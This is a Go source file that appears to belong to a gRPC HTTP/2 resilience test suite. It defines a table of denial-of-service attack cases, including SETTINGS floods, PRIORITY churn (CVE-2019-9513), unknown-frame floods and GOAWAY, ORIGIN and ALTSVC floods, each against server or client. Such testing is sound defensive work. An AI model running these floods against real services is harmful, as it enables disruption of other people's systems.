// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
	"google.golang.org/grpc/attack/internal/wire"
)

// signalKinds are attacks with frames that ask for nothing, or that change settings as often as they can.
var signalKinds = []Kind{
	{
		Name: "server/signal/window-entries", Short: true,
		About:  "SETTINGS whose 2,730 entries change INITIAL_WINDOW_SIZE, while 1,000 streams are open (RFC 9113, 6.9.2)",
		Attack: onStreams(1, 1000, orders.Deaf, frame(wire.Settings, 0, 0, alternating(wire.InitialWindowSize, 0, 65535))),
	},
	{
		Name: "server/signal/window-entries-sending", Own: 500 * trickled, Busy: trickles,
		About:  "the same while 500 streams want to send messages of a byte",
		Attack: onStreams(1, 500, orders.Trickle, frame(wire.Settings, 0, 0, alternating(wire.InitialWindowSize, 0, 1))),
	},
	{
		Name:   "server/signal/table-entries",
		About:  "SETTINGS whose 2,730 entries change HEADER_TABLE_SIZE (RFC 7541, 4.2)",
		Attack: flood(2, true, frame(wire.Settings, 0, 0, alternating(wire.HeaderTableSize, 0, 4096))),
	},
	{
		Name:   "server/signal/frame-size-entries",
		About:  "SETTINGS whose 2,730 entries change MAX_FRAME_SIZE, while 100 streams want to send",
		Own:    100 * poured,
		Attack: onStreams(1, 100, orders.Pour, frame(wire.Settings, 0, 0, alternating(wire.MaxFrameSize, 16384, 1<<24-1))),
	},
	{
		Name: "client/signal/window-entries", Work: streams(orders.Deaf, 1000), Own: 1000 * calling,
		About:  "SETTINGS whose 2,730 entries change INITIAL_WINDOW_SIZE, while 1,000 streams are open",
		Attack: serveFlood(true, frame(wire.Settings, 0, 0, alternating(wire.InitialWindowSize, 0, 65535))),
	},
	{
		Name: "client/signal/unknown-settings", Work: callers(10),
		About:  "SETTINGS of 2,730 entries that mean nothing (RFC 9113, 6.5.2)",
		Attack: serveFlood(true, frame(wire.Settings, 0, 0, manySettings(0xabcd))),
	},
	{
		Name:  "server/signal/priority-self",
		About: "PRIORITY of a stream that depends on itself (RFC 7540, 5.3.1)",
		Attack: flood(4, true, func(c *attacker.Conn) error {
			id := c.Stream()
			return c.Frame(wire.Priority, 0, id, append(wire.Uint32(id), 10))
		}),
	},
	{
		Name:  "server/signal/priority-open",
		About: "PRIORITY to and fro between 1,000 streams that are open (CVE-2019-9513)",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(2, func(c *attacker.Conn) error {
				c.Drain(nil)
				ids, err := open(c, 1000, orders.Deaf)
				if err != nil {
					return err
				}
				return repeat(c, func(c *attacker.Conn) error {
					for i, id := range ids {
						if err := c.Frame(wire.Priority, 0, id, append(wire.Uint32(ids[(i*7+1)%len(ids)]|1<<31), 255)); err != nil {
							return err
						}
					}
					return nil
				})
			})
		},
	},
	{
		Name:   "server/signal/priority-update",
		About:  "PRIORITY_UPDATE with a value of 1 KB (RFC 9218, 7.1)",
		Attack: flood(4, true, frame(wire.PriorityUpdate, 0, 0, append(wire.Uint32(1), bytesOf(1000)...))),
	},
	{
		Name:   "server/signal/unknown-empty",
		About:  "frames of a type that does not exist, of length 0 (RFC 9113, 5.5)",
		Attack: flood(4, true, frame(0xfa, 0xff, 0, nil)),
	},
	{
		Name:   "server/signal/unknown-streams",
		About:  "frames of a type that does not exist, on streams that are not open",
		Attack: flood(4, true, func(c *attacker.Conn) error { return c.Frame(0xfa, 0, c.Stream(), eightBytes) }),
	},
	{
		Name:  "server/signal/unknown-in-block",
		About: "frames of a type that does not exist, inside of a header block (RFC 9113, 5.5: an error)",
		Attack: flood(8, true, func(c *attacker.Conn) error {
			id := c.Stream()
			return first(c.Frame(wire.Headers, 0, id, wire.Request(orders.Echo)), c.Frame(0xfa, 0, 0, nil), c.Flush())
		}),
	},
	{
		Name: "server/signal/goaway-falling", Short: true,
		About: "GOAWAYs whose last stream falls, with 16 KB of debug data, while 100 streams are open",
		Attack: func(a *attacker.Attacker) error {
			data := make([]byte, 16000)
			return a.Conns(2, func(c *attacker.Conn) error {
				c.Drain(nil)
				if _, err := open(c, 100, orders.Deaf); err != nil {
					return err
				}
				last := uint32(1<<31 - 1)
				return repeat(c, func(c *attacker.Conn) error {
					last -= 2
					return c.Frame(wire.GoAway, 0, 0, append(append(wire.Uint32(last), wire.Uint32(wire.Calm)...), data...))
				})
			})
		},
	},
	{
		Name:   "server/signal/goaway-empty",
		About:  "GOAWAY without debug data, again and again",
		Attack: flood(4, true, frame(wire.GoAway, 0, 0, append(wire.Uint32(1<<31-1), wire.Uint32(0)...))),
	},
	{
		Name: "client/signal/goaway-falling", Work: streams(orders.Deaf, 500), Own: 500 * calling,
		About: "GOAWAYs whose last stream falls, while 500 streams are open",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			if id < 101 {
				return nil
			}
			for last := id; last > 2; last -= 2 {
				if err := c.Frame(wire.GoAway, 0, 0, append(wire.Uint32(last), wire.Uint32(0)...)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name: "client/signal/origin", Work: callers(10),
		About:  "ORIGIN of 16 KB (RFC 8336, 2)",
		Attack: serveFlood(true, frame(wire.Origin, 0, 0, make([]byte, 16000))),
	},
	{
		Name: "client/signal/altsvc-streams", Work: callers(10),
		About: "100 times ALTSVC of 1 KB for each call (RFC 7838, 4)",
		Attack: serveStreams(func(c *attacker.Conn, id uint32) error {
			for range 100 {
				if err := c.Frame(wire.AltSvc, 0, id, append([]byte{0, 0}, make([]byte, 1000)...)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name: "client/signal/unknown-empty", Work: callers(10),
		About:  "frames of a type that does not exist, of length 0",
		Attack: serveFlood(true, frame(0xfa, 0xff, 0, nil)),
	},
}
